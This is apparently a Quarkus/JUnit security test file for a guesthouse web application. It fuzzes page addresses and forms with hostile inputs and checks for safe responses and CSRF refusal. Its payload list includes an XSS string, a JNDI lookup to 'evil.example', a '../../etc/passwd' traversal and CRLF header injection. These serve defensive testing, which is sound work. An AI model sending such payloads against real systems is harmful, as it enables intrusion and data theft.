package dev.guesthouse.pages;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.greaterThan;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.not;

import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import dev.guesthouse.test.Answer;
import dev.guesthouse.test.Changes;
import dev.guesthouse.test.Forms;
import dev.guesthouse.test.GuesthouseTest;
import io.quarkus.test.junit.QuarkusTest;

/** Every page with addresses that nobody has given out, and every form as nobody fills it in: each is answered by a page, and none by what went wrong inside. */
@QuarkusTest
@DisplayName("Pages, attacked by whoever is signed in")
class AttackedPagesTest extends GuesthouseTest {

    static final String MARKUP = "'\"><svg/onload=alert(1)>{x}{#if}</title>";
    private static final List<String> VALUES = List.of(MARKUP, "\u0000", "x".repeat(1_200), "-1", "99999999999999999999", "+999999999-12-31", "+100000-01-01", "2026-02-30", "\r\nX-Evil: y",
            "\u202e\u200b", "${jndi:ldap://evil.example}", "{\"a\":[1]}", "../../etc/passwd", "javascript:alert(1)", new UUID(0, 1).toString(), " ", "on");
    private static final List<String> QUERIES = List.of("after", "search", "state", "person", "packageId", "organizationId", "endingBefore", "subject", "actor", "action", "since",
            "until", "kind", "recipient", "catalogId", "next", "saved", "accessAfter", "requestsAfter");
    private static final List<Caller> WHO = List.of(Caller.administrator, Caller.sponsor, Caller.other, Caller.nobody);
    private static final Pattern FORM = Pattern.compile("(?s)<form[^>]*method=\"post\"[^>]*action=\"([^\"]+)\".*?</form>");
    private static final Pattern NAME = Pattern.compile("<(input|select|textarea|button)[^>]* name=\"([^\"]+)\"");
    private static final Set<String> OF_EVERY_PAGE = Set.of("/my/sign-out", "/my/language");

    private World world;
    private Changes changes;

    @BeforeEach
    void world() {
        world = World.of(given, guesthouse, mails);
        database.awaitDelivered(clock.instant());
        changes = new Changes(database, clock);
        changes.watch();
    }

    @AfterEach
    void stop() {
        changes.stop();
    }

    /** A form as a page has it. @param fields with what is typed or chosen. @param buttons each of them can be pressed, or none */
    private record Found(String action, Set<String> fields, Set<String> buttons) {
    }

    @Test
    @DisplayName("OPS-06 PAG-03 whatever stands in the address of a page, it is answered by a page, which nobody can frame or keep, and nothing is changed")
    void addresses() {
        for (var caller : WHO) {
            for (var path : world.addresses().keySet()) {
                for (var value : VALUES) {
                    if (path.contains(":")) {
                        check(path, caller, value, world.browser(caller).open(path.replaceAll(":\\w+", encoded(value).replace("+", "%20"))));
                    }
                }
                for (int round = 0; round < 3; round++) {
                    var from = round * 5;
                    var query = QUERIES.stream().map(name -> name + "=" + encoded(VALUES.get((QUERIES.indexOf(name) + from) % VALUES.size()))).collect(Collectors.joining("&"));
                    check(path, caller, query, world.browser(caller).open(world.address(path) + "?" + query));
                }
            }
        }
        assertThat(changes.sinceLastLook(), empty());
    }

    @Test
    @DisplayName("PAG-03 no form of any page is taken from another site, without a token or with that of somebody else's session, whoever sends it")
    void others() {
        var theirs = Forms.tokenOf(world.browser(Caller.other).open("/my/"));
        var forms = 0;
        for (var caller : List.of(Caller.administrator, Caller.sponsor, Caller.guest)) {
            var browser = world.browser(caller);
            for (var path : world.addresses().keySet()) {
                for (var form : found(browser.open(world.address(path)))) {
                    forms++;
                    for (var token : new String[] { null, "", theirs }) {
                        assertThat(form + " with " + token, browser.sendTo(form.action, token, nothing(form)).status(), is(refused(form)));
                    }
                    var own = Forms.tokenOf(browser.open("/my/"));
                    for (var header : List.of("Origin: https://evil.example", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-site", "X-None: none")) {
                        var parts = header.split(": ");
                        var answer = guesthouse.nobody().with("Cookie", browser.cookies()).with(parts[0], parts[1]).send("POST", form.action,
                                "application/x-www-form-urlencoded", Forms.encoded(Map.of("formToken", own)) + "&" + body(nothing(form)));
                        assertThat(form + " with " + header, answer.status(), is(403));
                    }
                }
            }
        }
        assertThat(forms, greaterThan(50));
        assertThat(changes.sinceLastLook(), empty());
    }

    @Test
    @DisplayName("OPS-06 PAG-04 MSG-05 whatever is sent in a form, in fields that it has, has twice or has not, is answered by a page, and is never part of it")
    void filledIn() {
        for (var caller : List.of(Caller.guest, Caller.sponsor, Caller.administrator)) {
            var browser = world.browser(caller);
            for (var path : world.addresses().keySet()) {
                for (var form : found(browser.open(world.address(path)))) {
                    for (var button : Stream.concat(form.buttons.stream(), Stream.of("")).toList()) {
                        var token = Forms.tokenOf(browser.open("/my/"));
                        for (int round = 0; round < 3; round++) {
                            var fields = Stream.concat(Stream.of(filled(form, round * 5)), button.isEmpty() ? Stream.of() : Stream.of(button, VALUES.get(round))).toArray(String[]::new);
                            check(form.action, caller, button + round, browser.sendTo(form.action, token, fields));
                        }
                        check(form.action, caller, "missing", browser.sendTo(form.action, token, button.isEmpty() ? new String[0] : new String[] { button, "" }));
                        var twice = body("formToken", token) + "&" + body(filled(form, 0)) + "&" + body(filled(form, 3)) + "&id=" + new UUID(0, 1) + "&limit=1000000&[]=&a[=&.=&=";
                        check(form.action, caller, "twice", guesthouse.nobody().with("Cookie", browser.cookies()).with("Sec-Fetch-Site", "same-origin").send("POST", form.action,
                                "application/x-www-form-urlencoded", twice));
                    }
                }
            }
        }
    }

    private static List<Found> found(Answer page) {
        var forms = new ArrayList<Found>();
        FORM.matcher(page.body()).results().filter(form -> !OF_EVERY_PAGE.contains(form.group(1))).forEach(form -> {
            var fields = new LinkedHashSet<String>();
            var buttons = new LinkedHashSet<String>();
            NAME.matcher(form.group()).results().filter(name -> !name.group(2).equals("formToken"))
                    .forEach(name -> (name.group(1).equals("button") ? buttons : fields).add(name.group(2).replace("&#39;", "'")));
            forms.add(new Found(form.group(1), fields, buttons));
        });
        return forms;
    }

    private static String[] filled(Found form, int from) {
        var fields = new ArrayList<String>();
        form.fields.forEach(name -> fields.addAll(List.of(name, VALUES.get((from + fields.size() / 2) % VALUES.size()))));
        return fields.toArray(String[]::new);
    }

    /** A page that shows nothing without what was asked for says so, when it is to show the form that was refused. */
    private static int refused(Found form) {
        return form.action.equals("/admin/access/end") ? 422 : 403;
    }

    private static String[] nothing(Found form) {
        return form.fields.stream().flatMap(name -> Stream.of(name, "")).toArray(String[]::new);
    }

    private static String body(String... fields) {
        var pairs = new ArrayList<String>();
        for (int i = 0; i < fields.length; i += 2) {
            pairs.add(encoded(fields[i]) + "=" + encoded(fields[i + 1]));
        }
        return String.join("&", pairs);
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, UTF_8);
    }

    private static void check(String path, Caller caller, String what, Answer answer) {
        var said = path + " as " + caller + " with " + what + ": " + answer;
        assertThat(said, answer.status() < 500, is(true));
        assertThat(said, answer.body(), not(containsString("<svg/onload")));
        assertThat(said, answer.header("Cache-Control"), is("no-store"));
        assertThat(said, answer.header("X-Content-Type-Options"), is("nosniff"));
        assertThat(said, answer.header("X-Evil") == null, is(true));
        if (answer.status() >= 300 && answer.status() < 400) {
            assertThat(said, answer.header("Location").matches("/(?!/)[^\\\\]*"), is(true));
        } else if (answer.header("Content-Type") == null || !answer.header("Content-Type").startsWith("text/csv")) {
            assertThat(said, answer.header("Content-Type"), is("text/html; charset=utf-8"));
            assertThat(said, answer.header("Content-Security-Policy"), containsString("frame-ancestors 'none'"));
        }
    }
}
